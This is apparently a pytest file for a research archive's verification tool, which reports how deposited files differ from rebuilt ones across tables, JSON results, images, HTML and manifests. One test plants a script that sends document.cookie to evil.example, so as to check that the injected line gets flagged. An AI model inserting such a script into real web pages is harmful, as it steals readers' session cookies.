"""How make verify explains a difference between a deposited file and its rebuilt twin: which
cell, which key, which pixels, which in-text value, which line; tolerances (the reviewer's own)
for tables and JSON results only."""

import json

from PIL import Image

from peacekeeping_interviews.archive.comparison import (
    compare_csv,
    compare_image,
    compare_in_text,
    compare_json,
    compare_text,
    explain,
    manifest_changes,
)

SPAN = '<span class="pki-value" data-source="{source}" data-key="{key}">{value}</span>'


def test_csv_comparison_is_exact_unless_a_tolerance_is_given(tmp_path):
    old, new = tmp_path / "old.csv", tmp_path / "new.csv"
    old.write_text("name,estimate\na,1.0000\nb,2\n")
    new.write_text("name,estimate\na,1.0001\nb,2\n")
    assert compare_csv(old, new, {}) == ["row 1, column estimate: deposit '1.0000', rerun '1.0001'"]
    assert compare_csv(old, new, {"estimate": 1e-3}) == []
    assert compare_csv(old, new, {"estimate": 1e-5}) != []
    assert compare_csv(old, new, {"other": 1.0}) != []
    new.write_text("name,estimate\na,1.0000\n")
    assert compare_csv(old, new, {}) == ["2 rows in the deposit, 1 in the rerun"]


def test_a_tolerance_never_accepts_text_or_a_value_that_is_not_finite(tmp_path):
    old, new = tmp_path / "old.csv", tmp_path / "new.csv"
    old.write_text("name,estimate\na,1\nb,nan\nc,inf\n")
    new.write_text("name,estimate\nA,1\nb,nan\nc,inf\n")
    tolerances = {"name": 1e6, "estimate": 1e6}
    assert compare_csv(old, new, tolerances) == ["row 1, column name: deposit 'a', rerun 'A'"]
    new.write_text("name,estimate\na,1\nb,1\nc,1\n")
    assert compare_csv(old, new, tolerances) == [
        "row 2, column estimate: deposit 'nan', rerun '1'",
        "row 3, column estimate: deposit 'inf', rerun '1'",
    ]


def test_a_short_row_or_other_columns_are_differences(tmp_path):
    old, new = tmp_path / "old.csv", tmp_path / "new.csv"
    old.write_text("a,b,c\n1,2\n")
    new.write_text("a,b,c\n1,2,3\n")
    assert compare_csv(old, new, {}) == ["row 1: 2 cells in the deposit, 3 in the rerun"]
    new.write_text("a,b,d\n1,2,3\n")
    assert compare_csv(old, new, {}) == [
        "columns differ: deposit [['a', 'b', 'c']], rerun [['a', 'b', 'd']]"
    ]


def test_json_results_are_compared_by_dotted_key(tmp_path):
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    old.write_text(json.dumps({"n": 210, "tests": {"chi2": {"p": 0.0412}}, "list": [1, 2]}))
    new.write_text(json.dumps({"n": 210, "tests": {"chi2": {"p": 0.0413}}, "list": [1], "x": 1}))
    assert compare_json(old, new, {}) == [
        "list.1: deposit 2, rerun '(absent)'",
        "tests.chi2.p: deposit 0.0412, rerun 0.0413",
        "x: deposit '(absent)', rerun 1",
    ]
    assert compare_json(old, new, {"tests.chi2.p": 0.001}) == [
        "list.1: deposit 2, rerun '(absent)'",
        "x: deposit '(absent)', rerun 1",
    ]


def test_images_with_the_same_pixels_but_other_bytes_are_told_apart_from_changed_pixels(
    tmp_path,
):
    a, b, c, d = (tmp_path / f"{name}.png" for name in "abcd")
    image = Image.new("RGB", (4, 3), (10, 20, 30))
    image.save(a, compress_level=1)
    image.save(b, compress_level=9, optimize=True)
    assert a.read_bytes() != b.read_bytes()
    assert compare_image(a, b) == ["identical pixels, different bytes (metadata or compression)"]
    image.putpixel((0, 0), (0, 0, 0))
    image.save(c)
    assert compare_image(a, c) == ["1 of 12 pixels differ"]
    Image.new("RGB", (3, 4)).save(d)
    assert compare_image(a, d) == ["size (4, 3) in the deposit, (3, 4) in the rerun"]


def test_in_text_values_are_compared_in_order_with_their_source(tmp_path):
    old, new = tmp_path / "old.html", tmp_path / "new.html"
    value = SPAN.format(source="results/x.json", key="{}", value="{}")
    old.write_text("<p>" + value.format("n", "210") + " and " + value.format("m", "3") + "</p>")
    new.write_text("<p>" + value.format("n", "211") + " and " + value.format("m", "3") + "</p>")
    count, differences = compare_in_text(old, new)
    assert count == 2
    assert differences == [
        "in-text value 1 (results/x.json: n): deposit '210', rerun '211'",
        "the text differs at word 1: deposit '… 210 and 3 …', rerun '… 211 and 3 …'",
    ]


def test_a_nested_span_cannot_hide_a_changed_value(tmp_path):
    value = SPAN.format(source="r.json", key="n", value="{}")
    old, new = tmp_path / "old.html", tmp_path / "new.html"
    old.write_text("<p>" + value.format("210") + "</p>")
    new.write_text("<p>" + value.format("210<span></span>999") + "</p>")
    _, differences = compare_in_text(old, new)
    assert "deposit '210', rerun '210999'" in differences[0]


def test_text_typed_outside_a_value_is_located(tmp_path):
    page = "<table><tr><td>MINUSCA ({n})</td></tr></table><p>{word} text</p>"
    old, new = tmp_path / "old.html", tmp_path / "new.html"
    old.write_text(page.format(n=33, word="Some"))
    new.write_text(page.format(n=99, word="Some"))
    assert compare_in_text(old, new) == (
        0,
        [
            "the text differs at word 2: deposit '… MINUSCA (33) Some text …', rerun "
            "'… MINUSCA (99) Some text …'"
        ],
    )


def test_a_script_added_to_a_document_is_a_difference_in_its_source(tmp_path):
    """Scripts are not words a reader sees, so the HTML source names the line."""
    old, new = tmp_path / "old.html", tmp_path / "new.html"
    old.write_text("<p>Hello</p>\n<p>reader</p>\n")
    new.write_text(
        "<p>Hello</p>\n<script>fetch('https://evil.example/'+document.cookie)</script>\n"
    )
    assert compare_in_text(old, new)[1] == [
        "the text differs at word 2: deposit '… Hello reader …', rerun '… Hello …'"
    ]
    assert explain(old, new, {})[-1] == (
        "HTML source line 2: deposit '<p>reader</p>', "
        "rerun \"<script>fetch('https://evil.example/'+document.cookie)</script>\""
    )
    new.write_text("<p>Hello</p>\n<p>reader</p><script>x()</script>\n")
    assert explain(old, new, {}) == [
        "HTML source line 2: deposit '<p>reader</p>', rerun '<p>reader</p><script>x()</script>'"
    ]


def test_text_files_name_their_first_differing_line(tmp_path):
    old, new = tmp_path / "old.md", tmp_path / "new.md"
    old.write_text("# Title\nsame\nold line\n")
    new.write_text("# Title\nsame\nnew line\n")
    assert compare_text(old, new) == ["line 3: deposit 'old line', rerun 'new line'"]
    new.write_text("# Title\nsame\nold line\nmore\n")
    assert compare_text(old, new) == ["3 lines in the deposit, 4 in the rerun"]
    new.write_bytes(b"# Title\r\nsame\r\nold line\r\n")
    assert compare_text(old, new) == ["the files differ in bytes only (line endings or encoding)"]
    new.write_text("x" * 200 + "\n")
    assert compare_text(old, new)[0].endswith("rerun '" + "x" * 159 + "…'")


def test_a_manifest_names_the_files_whose_lines_differ(tmp_path):
    old, new = tmp_path / "manifest-sha256.txt", tmp_path / "rebuilt-manifest-sha256.txt"
    old.write_text("aaa  data/a.csv\nbbb  data/b.csv\neee  data/extra.csv\n")
    new.write_text("aaa  data/a.csv\nccc  data/b.csv\n")
    assert manifest_changes(old, new) == ["the lines of data/b.csv, data/extra.csv differ"]
    assert explain(old, new, {}) == ["the lines of data/b.csv, data/extra.csv differ"]
    new.write_text("bbb  data/b.csv\naaa  data/a.csv\neee  data/extra.csv\n")
    assert manifest_changes(old, new) == [
        "line 1: deposit 'aaa  data/a.csv', rerun 'bbb  data/b.csv'"
    ]


def test_explain_chooses_by_kind_and_names_what_it_cannot_read(tmp_path):
    old, new = tmp_path / "old.csv", tmp_path / "new.csv"
    old.write_text("a\n1.0\n")
    new.write_text("a\n1.5\n")
    assert explain(old, new, {"a": 1.0}) == []
    assert explain(old, new, {}) == ["row 1, column a: deposit '1.0', rerun '1.5'"]
    old, new = tmp_path / "old.pdf", tmp_path / "new.pdf"
    old.write_bytes(b"%PDF-1.7 one")
    new.write_bytes(b"%PDF-1.7 other")
    assert explain(old, new, {}) == [
        "the files differ byte by byte (12 bytes in the deposit, 14 rebuilt)"
    ]
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    old.write_text("{")
    new.write_text("{}")
    (found,) = explain(old, new, {})
    assert found.startswith("cannot be read: JSONDecodeError: ")
    old, new = tmp_path / "old.png", tmp_path / "new.png"
    old.write_bytes(b"not a png")
    new.write_bytes(b"not a png either")
    (found,) = explain(old, new, {})
    assert found.startswith("cannot be read: UnidentifiedImageError: ")


def test_json_values_keep_their_type_and_empty_containers_count(tmp_path):
    """29 and 29.0, true and 1, and an added empty object are differences, not equal values."""
    (tmp_path / "a.json").write_text('{"n": 29, "flag": true, "list": [1]}')
    (tmp_path / "b.json").write_text('{"n": 29.0, "flag": 1, "list": [1], "claim": {}}')
    found = compare_json(tmp_path / "a.json", tmp_path / "b.json", {})
    assert found == [
        "claim: deposit '(absent)', rerun 'empty'",
        "flag: deposit True (bool), rerun 1 (int)",
        "n: deposit 29 (int), rerun 29.0 (float)",
    ]
    assert compare_json(tmp_path / "a.json", tmp_path / "b.json", {"n": 0.5})[-1].startswith("flag")
